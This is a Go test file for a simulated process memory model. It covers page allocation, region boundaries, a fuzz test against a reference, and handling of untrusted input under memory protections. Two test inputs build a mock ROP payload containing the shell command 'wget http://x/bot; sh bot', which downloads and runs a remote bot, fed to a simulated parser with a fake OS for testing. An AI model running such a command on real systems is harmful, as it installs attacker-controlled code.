package procvm

import (
	"bytes"
	"encoding/binary"
	"math/rand"
	"testing"
)

func TestNewProcHoldsNoPages(t *testing.T) {
	for _, prot := range []Protections{{}, {WX: true, ASLR: true, Canary: true}} {
		p := NewProc(testProgram(), prot, rand.New(rand.NewSource(1)), nil)
		for _, r := range p.as.Regions() {
			if n := len(r.pages); n != 0 {
				t.Fatalf("%+v: fresh %s holds %d pages", prot, r.Name, n)
			}
		}
	}
}

// A parse, benign or exploited, writes a few hundred bytes of one stack
// page and nothing else.
func TestParseUntrustedTouchesOneStackPage(t *testing.T) {
	inputs := map[string]func(*Proc) []byte{
		"benign": func(*Proc) []byte { return []byte("short dns answer") },
		"rop":    func(p *Proc) []byte { return ropPayload(p.TextBase(), "wget http://x/bot; sh bot") },
	}
	for name, input := range inputs {
		for _, prot := range []Protections{{}, {WX: true, ASLR: true, Canary: true}} {
			p := NewProc(testProgram(), prot, rand.New(rand.NewSource(7)), &fakeOS{})
			p.ParseUntrusted(input(p), testBufSize)
			for _, r := range p.as.Regions() {
				want := 0
				if r == p.stack {
					want = 1
				}
				if n := len(r.pages); n != want {
					t.Fatalf("%s %+v: %s holds %d pages, want %d", name, prot, r.Name, n, want)
				}
			}
		}
	}
}

func TestWriteAcrossPageBoundaryReadsBack(t *testing.T) {
	as := &AddressSpace{}
	r := as.Map("d", 0x10000, 3*pageSize, PermRead|PermWrite)
	data := make([]byte, 300)
	for i := range data {
		data[i] = byte(i*7 + 1)
	}
	addr := r.Base + 2*pageSize - 100
	if f := as.Write(addr, data); f != nil {
		t.Fatal(f)
	}
	got, f := as.Read(addr, len(data))
	if f != nil || !bytes.Equal(got, data) {
		t.Fatalf("read back %x, fault %v", got, f)
	}
	if n := len(r.pages); n != 2 {
		t.Fatalf("%d pages, want 2", n)
	}
}

func TestWriteCutAtRegionEnd(t *testing.T) {
	as := &AddressSpace{}
	r := as.Map("d", 0x10000, pageSize+100, PermRead|PermWrite)
	f := as.Write(r.End()-4, []byte{1, 2, 3, 4, 5, 6, 7, 8})
	if f == nil || f.Kind != FaultUnmapped || f.Addr != r.End() {
		t.Fatalf("fault = %v, want unmapped at %#x", f, r.End())
	}
	got, f := as.Read(r.End()-8, 8)
	if f != nil || !bytes.Equal(got, []byte{0, 0, 0, 0, 1, 2, 3, 4}) {
		t.Fatalf("tail = %v, fault %v", got, f)
	}
	if n := len(r.pages); n != 1 {
		t.Fatalf("%d pages, want 1", n)
	}
	// The page's bytes past the region's end stay untouched.
	if tail := r.pages[0].data[100:]; !bytes.Equal(tail, make([]byte, len(tail))) {
		t.Fatal("write ran past the region's end inside its last page")
	}
	// A mapping right after the region takes the rest of the write.
	next := as.Map("e", r.End(), 16, PermRead|PermWrite)
	if f := as.Write(r.End()-4, []byte{1, 2, 3, 4, 5, 6, 7, 8}); f != nil {
		t.Fatal(f)
	}
	if got, _ := as.Read(next.Base, 4); !bytes.Equal(got, []byte{5, 6, 7, 8}) {
		t.Fatalf("next region = %v", got)
	}
}

func TestUntouchedBytesReadZero(t *testing.T) {
	as := &AddressSpace{}
	r := as.Map("d", 0x10000, 4*pageSize+10, PermRead|PermWrite)
	if f := as.WriteU64(r.Base+pageSize+8, ^uint64(0)); f != nil {
		t.Fatal(f)
	}
	got, f := as.Read(r.Base, int(r.Size))
	if f != nil {
		t.Fatal(f)
	}
	for i, b := range got {
		inWord := i >= pageSize+8 && i < pageSize+16
		if (b == 0xff) != inWord || (!inWord && b != 0) {
			t.Fatalf("byte %#x = %#x", i, b)
		}
	}
	if v, f := as.ReadU64(r.End() - 8); f != nil || v != 0 {
		t.Fatalf("untouched word = %#x, fault %v", v, f)
	}
	if s, f := as.ReadCString(r.Base+3*pageSize, 64); f != nil || s != "" {
		t.Fatalf("untouched string = %q, fault %v", s, f)
	}
}

func TestReadU64AllocFree(t *testing.T) {
	as := &AddressSpace{}
	r := as.Map("d", 0x10000, 2*pageSize, PermRead|PermWrite)
	if f := as.WriteU64(r.Base+pageSize-4, 0x1122334455667788); f != nil {
		t.Fatal(f)
	}
	for _, addr := range []uint64{r.Base, r.Base + pageSize - 4} { // untouched page; straddling word
		if got := testing.AllocsPerRun(100, func() { as.ReadU64(addr) }); got != 0 {
			t.Fatalf("ReadU64(%#x): %v allocs, want 0", addr, got)
		}
	}
}

// fuzzLayout is FuzzAddressSpace's address space: regions whose sizes
// and bases are not page multiples, two of them adjacent, a gap, and
// every permission mix that matters for reads and writes.
var fuzzLayout = []struct {
	name       string
	base, size uint64
	perm       Perm
}{
	{"rw", 0x0000, 0x2345, PermRead | PermWrite},
	{"ro", 0x2345, 0x0100, PermRead},
	{"wo", 0x3000, 0x1000, PermWrite},
	{"rwx", 0x4010, 0x0ff0, PermRead | PermWrite | PermExec},
	{"none", 0x5000, 0x0040, 0},
}

// fuzzSpan bounds the addresses a fuzz op names; everything past the
// last region is unmapped.
const fuzzSpan = 0x5800

// refSpace is the dense reference: one byte and one permission per
// address, checked byte by byte.
type refSpace struct {
	mem    []byte
	perm   []Perm
	mapped []bool
}

func newRefSpace() *refSpace {
	rs := &refSpace{mem: make([]byte, fuzzSpan), perm: make([]Perm, fuzzSpan), mapped: make([]bool, fuzzSpan)}
	for _, l := range fuzzLayout {
		for a := l.base; a < l.base+l.size; a++ {
			rs.perm[a], rs.mapped[a] = l.perm, true
		}
	}
	return rs
}

// check returns the fault an access to addr needing want raises.
func (rs *refSpace) check(addr uint64, want Perm) *Fault {
	if addr >= fuzzSpan || !rs.mapped[addr] {
		return &Fault{Kind: FaultUnmapped, Addr: addr}
	}
	if rs.perm[addr]&want == 0 {
		return &Fault{Kind: FaultPerm, Addr: addr}
	}
	return nil
}

func (rs *refSpace) write(addr uint64, b []byte) *Fault {
	for i, v := range b {
		a := addr + uint64(i)
		if f := rs.check(a, PermWrite); f != nil {
			return f
		}
		rs.mem[a] = v
	}
	return nil
}

func (rs *refSpace) read(addr uint64, n int) ([]byte, *Fault) {
	out := make([]byte, n)
	for i := range out {
		a := addr + uint64(i)
		if f := rs.check(a, PermRead); f != nil {
			return nil, f
		}
		out[i] = rs.mem[a]
	}
	return out, nil
}

func (rs *refSpace) readCString(addr uint64, max int) (string, *Fault) {
	var out []byte
	for i := 0; i < max; i++ {
		a := addr + uint64(i)
		if f := rs.check(a, PermRead); f != nil {
			return "", f
		}
		if rs.mem[a] == 0 {
			break
		}
		out = append(out, rs.mem[a])
	}
	return string(out), nil
}

func sameFault(a, b *Fault) bool {
	if a == nil || b == nil {
		return a == b
	}
	return *a == *b
}

// Fuzz ops are fuzzOpLen bytes: op (mod 4), address (LE uint16, mod
// fuzzSpan), length or max (LE uint16, mod 0x2400), and a fill value v
// and step s that make a write's byte i v + i·s.
const (
	opWrite = iota
	opRead
	opReadU64
	opReadCString
	fuzzOpLen = 7
)

// FuzzAddressSpace runs decoded Write, Read, ReadU64 and ReadCString
// calls against the sparse address space and a dense reference, and
// requires the same bytes and the same fault (kind and address) from
// every call, then the same contents in every region. Its seeds are
// in testdata/fuzz/FuzzAddressSpace.
func FuzzAddressSpace(f *testing.F) {
	f.Fuzz(func(t *testing.T, data []byte) {
		as := &AddressSpace{}
		regions := make([]*Region, len(fuzzLayout))
		for i, l := range fuzzLayout {
			regions[i] = as.Map(l.name, l.base, l.size, l.perm)
		}
		ref := newRefSpace()
		for ; len(data) >= fuzzOpLen; data = data[fuzzOpLen:] {
			addr := uint64(binary.LittleEndian.Uint16(data[1:])) % fuzzSpan
			n := int(binary.LittleEndian.Uint16(data[3:]) % 0x2400)
			switch data[0] % 4 {
			case opWrite:
				b := make([]byte, n)
				for i := range b {
					b[i] = data[5] + byte(i)*data[6]
				}
				if got, want := as.Write(addr, b), ref.write(addr, b); !sameFault(got, want) {
					t.Fatalf("Write(%#x, %d bytes): fault %v, want %v", addr, n, got, want)
				}
			case opRead:
				got, gf := as.Read(addr, n)
				want, wf := ref.read(addr, n)
				if !sameFault(gf, wf) || !bytes.Equal(got, want) {
					t.Fatalf("Read(%#x, %d): fault %v, want %v; bytes equal %v", addr, n, gf, wf, bytes.Equal(got, want))
				}
			case opReadU64:
				got, gf := as.ReadU64(addr)
				b, wf := ref.read(addr, 8)
				var want uint64
				if wf == nil {
					want = binary.LittleEndian.Uint64(b)
				}
				if !sameFault(gf, wf) || got != want {
					t.Fatalf("ReadU64(%#x) = %#x fault %v, want %#x fault %v", addr, got, gf, want, wf)
				}
			case opReadCString:
				got, gf := as.ReadCString(addr, n)
				want, wf := ref.readCString(addr, n)
				if !sameFault(gf, wf) || got != want {
					t.Fatalf("ReadCString(%#x, %d) = %d bytes fault %v, want %d bytes fault %v", addr, n, len(got), gf, len(want), wf)
				}
			}
		}
		for _, r := range regions {
			for i, p := range r.pages {
				if (i > 0 && p.idx <= r.pages[i-1].idx) || p.idx > (r.Size-1)>>pageShift {
					t.Fatalf("%s: page list %v out of order or range", r.Name, r.pages)
				}
			}
			got := make([]byte, r.Size)
			if n := r.readAt(0, got); n != len(got) || !bytes.Equal(got, ref.mem[r.Base:r.End()]) {
				t.Fatalf("%s: contents differ from the reference", r.Name)
			}
			if len(r.pages) > 0 {
				last := r.pages[len(r.pages)-1]
				tail := last.data[min(pageSize, r.Size-last.idx<<pageShift):]
				if !bytes.Equal(tail, make([]byte, len(tail))) {
					t.Fatalf("%s: bytes written past the region's end", r.Name)
				}
			}
		}
	})
}

func BenchmarkParseUntrusted(b *testing.B) {
	inputs := map[string]func(*Proc) []byte{
		"benign": func(*Proc) []byte { return []byte("short dns answer") },
		"rop":    func(p *Proc) []byte { return ropPayload(p.TextBase(), "wget http://x/bot; sh bot") },
	}
	for _, name := range []string{"benign", "rop"} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			prog, rng := testProgram(), rand.New(rand.NewSource(1))
			for i := 0; i < b.N; i++ {
				p := NewProc(prog, Protections{}, rng, &fakeOS{})
				p.ParseUntrusted(inputs[name](p), testBufSize)
			}
		})
	}
}
